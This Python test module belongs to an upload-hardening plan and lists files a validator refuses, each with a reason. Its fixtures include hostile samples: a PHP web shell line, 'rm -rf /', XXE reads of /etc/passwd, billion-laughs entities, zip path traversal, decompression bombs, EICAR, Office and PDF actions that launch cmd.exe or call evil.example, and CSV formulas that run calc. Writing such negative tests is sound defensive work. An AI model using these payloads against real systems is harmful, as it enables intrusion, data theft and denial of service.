"""Files that must not get in: what each is called, what it holds, and why it is refused. Hardening plan, row B1."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.files import honest
from tests.files.honest import link, office, office_parts, pdf, pdf_with_link, picture, raw_pdf, stream, zipped

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" %b>%b</svg>'
SMALL_PDF, SMALL_DOCX, SMALL_PNG, SMALL_JPG = (honest.FILES[name] for name in ("pdf", "docx", "png", "jpg"))
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><l>&i;</l>"
)
XXE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
CASES = []


def case(name, file, reason, content):
    """A row of the table; a content that takes time to make is given as a function."""
    CASES.append((name, file, reason, content))


def action(**entries):
    return "<<" + "".join(f"/{key} {value}" for key, value in entries.items()) + ">>"


def catalog(entries):
    return (1, f"<</Type/Catalog/Pages 2 0 R{entries}>>".encode())


def page(entries):
    return (3, f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]{entries}>>".encode())


# What is no file of its kind
case("nothing", "a.pdf", "empty", b"")
case("one byte", "a.pdf", "mismatch", b"%")
case("one byte of a document", "a.docx", "mismatch", b"P")
case("one byte of a picture", "a.png", "mismatch", b"\x89")
case("web page as PDF", "a.pdf", "mismatch", b"<html><script>alert(1)</script></html>")
case("web page as text", "a.txt", "mismatch", b"<!DOCTYPE html><p>hola")
case("script as text", "a.txt", "mismatch", b"#!/bin/sh\nrm -rf /\n")
case("page of PHP as text", "a.txt", "mismatch", b"<?php system($_GET[0]);")
case("picture of lines as text", "a.txt", "mismatch", SVG % (b'onload="alert(1)"', b""))
case("picture of lines as PNG", "a.png", "mismatch", SVG % (b"", b"<script>alert(1)</script>"))
case("foreign object as JPG", "a.jpg", "mismatch", SVG % (b"", b"<foreignObject><iframe/></foreignObject>"))
case("picture of lines in UTF-16 as text", "a.txt", "encoding", (SVG % (b"", b"")).decode().encode("utf-16"))
case("picture of lines by its own name", "a.svg", "extension", SVG % (b"", b""))
case("entity from a file as table", "a.csv", "mismatch", b"<svg>" + XXE.encode())
case("program of Windows as PDF", "a.pdf", "mismatch", b"MZ\x90\0" + bytes(300))
case("program of Linux as DOCX", "a.docx", "mismatch", b"\x7fELF\2\1\1" + bytes(300))
case("program by its own name", "a.exe", "extension", b"MZ\x90\0" + bytes(300))
case("program as text", "a.txt", "mismatch", b"MZ\x90\0" + bytes(300))
case("old Word document as DOCX", "a.docx", "mismatch", OLE)
case("old Word document by its own name", "a.doc", "extension", OLE)
case("PNG as JPG", "a.jpg", "mismatch", SMALL_PNG)
case("PDF as DOCX", "a.docx", "mismatch", SMALL_PDF)
case("DOCX as PDF", "a.pdf", "mismatch", SMALL_DOCX)
case("DOCX as XLSX", "a.xlsx", "mismatch", SMALL_DOCX)
case("bare archive as DOCX", "a.docx", "mismatch", zipped([("a.txt", "hola")]))
case("TIFF as JPG", "a.jpg", "mismatch", picture("TIFF"))
case("WebP as PNG", "a.png", "mismatch", picture("WEBP"))
case("EPS as text", "a.txt", "mismatch", b"%!PS-Adobe-3.0 EPSF-3.0\n(file) run\n")
case("EPS as JPG", "a.jpg", "mismatch", b"%!PS-Adobe-3.0 EPSF-3.0\n")
case("RTF as text", "a.txt", "mismatch", b"{\\rtf1{\\object\\objdata 0105}}")
case("text with zeros", "a.txt", "mismatch", b"hola\0mundo")
case("text in Latin-1", "a.txt", "encoding", "señor".encode("latin-1"))

# Two kinds at once
case("web page before a PDF", "a.pdf", "mismatch", b"<html></html>\n" + SMALL_PDF)
case("line before a PDF", "a.pdf", "mismatch", b"\n" + SMALL_PDF)
case("web page inside a PDF's head", "a.pdf", "polyglot", SMALL_PDF.replace(b"\n", b"\n%<html><script>x</script>\n", 1))
case("web page after a PDF", "a.pdf", "polyglot", SMALL_PDF + b"<html><body onload=alert(1)>")
case(
    "script deep in a PDF",
    "a.pdf",
    "polyglot",
    raw_pdf((4, stream(b" " * 2000 + b"<script>1</script>", deflate=False))),
)
case("archive after a PDF", "a.pdf", "polyglot", SMALL_PDF + zipped([("a.html", "x")]))
case("archive inside a PDF", "a.pdf", "polyglot", raw_pdf((4, stream(zipped([("a.html", "x")]), deflate=False))))
case("archive after a picture", "a.png", "polyglot", SMALL_PNG + zipped([("a.html", "x")]))
case("PHP in a JPG's comment", "a.jpg", "polyglot", picture(comment=b"<?php __HALT_COMPILER(); ?>"))
case("script after a JPG", "a.jpg", "polyglot", SMALL_JPG + b"<script>alert(1)</script>")
case("PDF in a JPG's comment", "a.jpg", "polyglot", picture(comment=SMALL_PDF[:200]))
case("GIF that is JavaScript as PNG", "a.png", "mismatch", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)")
case("GIF that is JavaScript as text", "a.txt", "mismatch", b"GIF89a=1;alert(1)")
case("something after a document", "a.docx", "polyglot", SMALL_DOCX + b"<html>")
case("something before a document's parts", "a.docx", "polyglot", b"PK\3\4" + bytes(40) + SMALL_DOCX)

# Viruses
case("EICAR as text", "a.txt", "virus", EICAR)
case("EICAR in a document", "a.docx", "virus", office(more=[("word/media/a.bin", EICAR)]))
case("EICAR in a PDF", "a.pdf", "virus", raw_pdf((4, stream(EICAR, deflate=False))))
case("EICAR packed in a PDF", "a.pdf", "virus", raw_pdf((4, stream(bytes(5000) + EICAR))))

# Documents of Office
case("macro by its part", "a.docx", "script", office(more=[("word/vbaProject.bin", OLE)]))
case(
    "macro document by another name",
    "a.docx",
    "script",
    office(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
)
case(
    "macro workbook by another name",
    "a.xlsx",
    "script",
    office("xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
)
case("macro workbook by its own name", "a.xlsm", "extension", office("xlsx"))
case("macro sheet of old", "a.xlsx", "script", office("xlsx", more=[("xl/macrosheets/sheet1.xml", "<x/>")]))
case("ActiveX", "a.docx", "script", office(more=[("word/activeX/activeX1.xml", "<x/>")]))
case("button that runs a program", "a.pptx", "script", office("pptx", body='<a action="ppaction://program"/>'))
case("OLE object", "a.docx", "embedded", office(more=[("word/embeddings/oleObject1.bin", OLE)]))
case("OLE object under a picture's name", "a.docx", "embedded", office(more=[("word/media/image1.png", OLE)]))
case("program under a picture's name", "a.pptx", "embedded", office("pptx", more=[("ppt/media/a.png", b"MZ\x90\0")]))
case("embedded workbook", "a.pptx", "embedded", office("pptx", more=[("ppt/embeddings/a.xlsx", office("xlsx"))]))
case("web page to be taken in", "a.docx", "embedded", office(links=link("aFChunk", "afchunk.mht", external=False)))
case(
    "template from elsewhere",
    "a.docx",
    "external",
    office(links=link("attachedTemplate", "https://evil.example/t.dotm")),
)
case("picture from elsewhere", "a.docx", "external", office(links=link("image", "https://evil.example/p.png")))
case("link to a file server", "a.docx", "external", office(links=link("hyperlink", "file://evil.example/share")))
case("link to a share", "a.docx", "external", office(links=link("hyperlink", "\\\\evil.example\\share")))
case("link that is a script", "a.docx", "external", office(links=link("hyperlink", "javascript:alert(1)")))
case("workbook that reads another", "a.xlsx", "external", office("xlsx", more=[("xl/externalLinks/e1.xml", "<x/>")]))
case("data connection", "a.xlsx", "external", office("xlsx", more=[("xl/connections.xml", "<x/>")]))
case(
    "formula that fetches",
    "a.xlsx",
    "external",
    office("xlsx", more=[("xl/worksheets/sheet1.xml", '<x><f t="n">WEBSERVICE("http://evil.example")</f></x>')]),
)
case(
    "field that runs a program, in pieces",
    "a.docx",
    "external",
    office(body='<w:d xmlns:w="w"><w:instrText>DD</w:instrText><w:instrText>&#69;AUTO c:\\cmd.exe</w:instrText></w:d>'),
)
case("billion laughs", "a.docx", "mismatch", office(body=LAUGHS))
case("entity from a file", "a.docx", "mismatch", office(more=[("word/settings.xml", XXE)]))
case("entity from a file in UTF-16", "a.docx", "mismatch", office(more=[("word/settings.xml", XXE.encode("utf-16"))]))
case("part that is no XML", "a.docx", "damaged", office(body="<w:document>"))
case("path out of the folder", "a.docx", "mismatch", office(more=[("../../etc/cron.d/x", "x")]))
case("path with backslashes", "a.docx", "mismatch", office(more=[("..\\..\\x.xml", "<x/>")]))
case("path from the root", "a.docx", "mismatch", office(more=[("/etc/passwd", "x")]))


def symlink():
    entry = zipfile.ZipInfo("word/link")
    entry.external_attr = 0o120777 << 16
    return office(more=[(entry, "/etc/passwd")])


def encrypted():
    content = bytearray(SMALL_DOCX)
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        place = content.find(mark)
        content[place + offset] |= 1
    return bytes(content)


def nested(depth):
    inner = zipped([("x.txt", "x")])
    for _ in range(depth):
        inner = zipped([("x.dat", inner)])
    return office(more=[("word/media/x.dat", inner)])


def lying_size():
    """A part of two megabytes of zeros that declares twenty bytes."""
    packed = zlib.compress(bytes(2_000_000), 9)[2:-4]
    content = office(more=[("word/media/z.bin", bytes(2_000_000))])
    assert packed
    true = struct.pack("<I", 2_000_000)
    return content.replace(true, struct.pack("<I", 20))


def overlapping():
    """Two entries of the directory share one part's bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in office_parts():
            archive.writestr(name, content)
        first = archive.infolist()[2]
        twin = zipfile.ZipInfo("word/document2.xml")
        for part in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
            setattr(twin, part, getattr(first, part))
        archive.filelist.append(twin)
        archive.NameToInfo[twin.filename] = twin
    return out.getvalue()


def twins():
    return office(more=[("word/Document.xml", "<x/>")])


case("link of the file system", "a.docx", "mismatch", symlink())
case("part behind a password", "a.docx", "encrypted", encrypted())
case("archive in an archive, five deep", "a.docx", "embedded", nested(5))
case(
    "300 MB in an XLSX", "a.xlsx", "bomb", lambda: office("xlsx", more=[("xl/worksheets/sheet1.xml", bytes(300 << 20))])
)
case(
    "60 MB of one letter", "a.xlsx", "bomb", lambda: office("xlsx", more=[("xl/sharedStrings.xml", b" " * (60 << 20))])
)
case("size that lies", "a.docx", "bomb", lying_size)
case("parts that share bytes", "a.docx", ("bomb", "mismatch"), overlapping())
case("names that differ by case", "a.docx", "mismatch", twins())
case("document cut in half", "a.docx", "damaged", SMALL_DOCX[: len(SMALL_DOCX) // 2])
case("6000 parts", "a.docx", "too_complex", lambda: office(more=[(f"word/media/{n}.bin", b"") for n in range(6000)]))


# Texts of OpenDocument
def odt(name, reason, *arguments, **parts):
    case(f"ODT: {name}", "a.odt", reason, honest.opendocument(*arguments, **parts))


def listed(name, inside=""):
    entry = f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml">'
    return f"{entry}{inside}</manifest:file-entry>"


odt("a sheet under a text's name", "mismatch", mimetype="application/vnd.oasis.opendocument.spreadsheet")
odt("a manifest of another kind", "mismatch", media_type="application/vnd.oasis.opendocument.text-master")
odt("a macro in Basic", "script", more=[("Basic/Standard/Module1.xml", "<x/>")])
odt("a macro in Python", "script", more=[("Scripts/python/a.py", "print()")])
odt("a script in the text", "script", '<office:script script:language="ooo:Basic"/>')
odt(
    "a macro when it is opened",
    "script",
    '<office:event-listeners><script:event-listener script:event-name="dom:load"/></office:event-listeners>',
)
odt("an object", "embedded", '<draw:object xlink:href="./Object 1"/>')
odt("an object's part", "embedded", more=[("Object 1/content.xml", "<x/>")])
odt("a document among the pictures", "embedded", more=[("Pictures/1.bin", OLE)])
odt("a picture from elsewhere", "external", '<draw:image xlink:href="https://evil.example/p.png"/>')
odt("a picture from a share", "external", '<draw:image xlink:href="file://evil.example/p.png"/>')
odt("a section from elsewhere", "external", '<text:section-source xlink:href="a.odt"/>')
odt("a frame from elsewhere", "external", '<draw:floating-frame xlink:href="https://evil.example"/>')
odt("a link that is a macro", "external", '<text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a>')
odt("a link to a file", "external", '<text:a xlink:href="file:///etc/passwd">x</text:a>')
odt("a part behind a password", "encrypted", entries=listed("content.xml", "<manifest:encryption-data/>"))
odt("entities", "mismatch", content=LAUGHS)
odt("no XML", "damaged", content="<office:document-content>")
odt("EICAR", "virus", more=[("Pictures/1.bin", EICAR)])
case(
    "ODT: no type first",
    "a.odt",
    "mismatch",
    zipped([("content.xml", "<x/>"), ("mimetype", honest.ODT_TYPE), ("META-INF/manifest.xml", honest.manifest())]),
)
case("ODT: a Word document", "a.odt", "mismatch", SMALL_DOCX)
case("ODT under Word's name", "a.docx", "mismatch", honest.opendocument())

# Web pages, of which the rest is written anew
case("PDF as web page", "a.html", "mismatch", SMALL_PDF)
case("fragment as web page", "a.html", "mismatch", b"<script>alert(1)</script>")
case("picture of XML as web page", "a.html", "mismatch", SVG % (b"", b""))
case("archive after a web page", "a.html", "polyglot", honest.FILES["html"] + zipped([("a.txt", "x")]))
case("web page in UTF-16", "a.html", "mismatch", "<html><p>hola".encode("utf-16"))
case("web page in Latin-1", "a.htm", "encoding", "<html><p>niñez".encode("latin-1"))

# Pictures
HEAD = b"\x89PNG\r\n\x1a\n"


def chunk(name, content):
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png_header(width, height):
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return HEAD + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")


def flat_png(side):
    out = io.BytesIO()
    Image.new("1", (side, side)).save(out, "PNG")
    return out.getvalue()


def moving_png():
    out = io.BytesIO()
    frames = [Image.new("RGB", (5, 5), colour) for colour in ("red", "blue", "green")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def moving_gif(frames):
    out = io.BytesIO()
    made = [Image.new("1", (2, 2), n % 2) for n in range(frames)]
    made[0].save(out, "GIF", save_all=True, append_images=made[1:])
    return out.getvalue()


case("picture of 20000 by 20000", "a.png", "pixels", lambda: flat_png(20_000))
case("header of 65000 by 65000", "a.png", "pixels", png_header(65_000, 65_000))
case(
    "header of 65000 by 65000 in a JPG",
    "a.jpg",
    ("pixels", "damaged"),
    SMALL_JPG.replace(struct.pack(">HH", 30, 40), struct.pack(">HH", 65_000, 65_000), 1),
)
case("moving picture", "a.png", "animated", moving_png())
case("GIF of many pictures", "a.gif", "extension", lambda: moving_gif(300))
case("GIF of many pictures as PNG", "a.png", "mismatch", lambda: moving_gif(300))
case("PNG cut in half", "a.png", "damaged", picture("PNG", (400, 300))[:400])
case("JPG cut in half", "a.jpg", "damaged", picture("JPEG", (400, 300))[:900])
case("PNG without its picture", "a.png", "damaged", HEAD + chunk(b"IHDR", struct.pack(">IIBBBBB", 5, 5, 8, 2, 0, 0, 0)))
case(
    "text that unpacks to 100 MB in a PNG",
    "a.png",
    "damaged",
    lambda: SMALL_PNG.replace(
        chunk(b"IEND", b""), chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(100 << 20))) + chunk(b"IEND", b"")
    ),
)

# PDF
case("JavaScript", "a.pdf", "script", raw_pdf(catalog("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")))
case(
    "JavaScript spelt with codes",
    "a.pdf",
    "script",
    raw_pdf(catalog("/OpenAction<</S/J#61vaScr#69pt/JS(app.alert\\(1\\))>>")),
)
case(
    "JavaScript in an object stream that no table lists",
    "a.pdf",
    "script",
    raw_pdf((4, stream(b"7 0 <</S/JavaScript/JS(x)>>", b"/Type/ObjStm/N 1/First 4"))),
)
case("program to launch", "a.pdf", "script", raw_pdf(catalog("/OpenAction<</S/Launch/F(cmd.exe)>>")))
case(
    "address that opens by itself",
    "a.pdf",
    "script",
    raw_pdf(catalog("/OpenAction<</S/URI/URI(https://evil.example)>>")),
)
case(
    "address that opens with the page",
    "a.pdf",
    "script",
    raw_pdf(page("/AA<</O<</S/URI/URI(https://evil.example)>>>>")),
)
case(
    "action after a harmless one",
    "a.pdf",
    "script",
    raw_pdf(catalog("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>")),
)
case("form that sends itself", "a.pdf", "script", raw_pdf(page("/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>")))
case("form of XFA", "a.pdf", "script", raw_pdf(catalog("/AcroForm<</XFA 4 0 R/Fields[]>>"), (4, stream(b"<x/>"))))
case("attached file", "a.pdf", "embedded", pdf(change=lambda writer: writer.add_attachment("a.exe", b"MZ")))
case("film", "a.pdf", "embedded", raw_pdf(page("/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 1 1]>>]")))
case(
    "document on a share",
    "a.pdf",
    "external",
    raw_pdf(
        page("/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/A<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>>>]")
    ),
)
case("link that is a script in a PDF", "a.pdf", "external", pdf_with_link("javascript:alert(1)"))
case("link to a file in a PDF", "a.pdf", "external", pdf_with_link("file:///etc/passwd"))


def locked(writer):
    writer.encrypt("secret", algorithm="AES-256")


def deep_table(links):
    """Revision upon revision, each pointing at the one before."""
    out = raw_pdf()
    for _ in range(links):
        before = int(out.rpartition(b"startxref\n")[2].split()[0])
        place = len(out)
        out += b"xref\n0 0\ntrailer\n<</Size 4/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (before, place)
    return out


def looped_table():
    out = raw_pdf()
    place = len(out)
    return out + b"xref\n0 0\ntrailer\n<</Size 4/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (place, place)


def many_objects(count):
    return raw_pdf(*((number, b"<</A 1>>") for number in range(4, count)))


case("PDF behind a password", "a.pdf", "encrypted", pdf(change=locked))
case("pages that hold themselves", "a.pdf", "damaged", raw_pdf((2, b"<</Type/Pages/Kids[2 0 R]/Count 1>>")))
case(
    "pages that hold themselves further down",
    "a.pdf",
    "damaged",
    raw_pdf((2, b"<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>"), (4, b"<</Type/Pages/Kids[2 0 R]/Count 1>>")),
)
case("no pages", "a.pdf", "damaged", raw_pdf((2, b"<</Type/Pages/Kids[]/Count 0>>")))
case(
    "a million objects", "a.pdf", "too_complex", lambda: b"%PDF-1.7\n" + b"1 0 obj<<>>endobj\n" * 1_000_000 + b"%%EOF\n"
)
case("200,000 objects with their table", "a.pdf", "too_complex", lambda: many_objects(200_000))
case("a thousand revisions", "a.pdf", "too_complex", lambda: deep_table(1000))
case("table that points at itself", "a.pdf", ("damaged", "accepted"), looped_table)
case(
    "arrays 100,000 deep",
    "a.pdf",
    ("too_complex", "damaged"),
    raw_pdf(catalog("/Names " + "[" * 100_000 + "]" * 100_000)),
)
case("300 MB in a page", "a.pdf", "bomb", lambda: raw_pdf((4, stream(bytes(300 << 20)))))
case("PDF cut in half", "a.pdf", "damaged", SMALL_PDF[: len(SMALL_PDF) // 2])
case("head of a PDF alone", "a.pdf", "damaged", b"%PDF-1.7\n%%EOF\n")

# Tables
case("formula", "a.csv", "formula", b"a,b\n1,=HYPERLINK(1)\n")
case("formula in quotes", "a.csv", "formula", b'a;"=1+1"\n')
case("formula that runs a program", "a.csv", "formula", b"a,b\n1,+cmd|' /C calc'!A0\n")
case("formula behind an at", "a.csv", "formula", b"@SUM(1)\n")
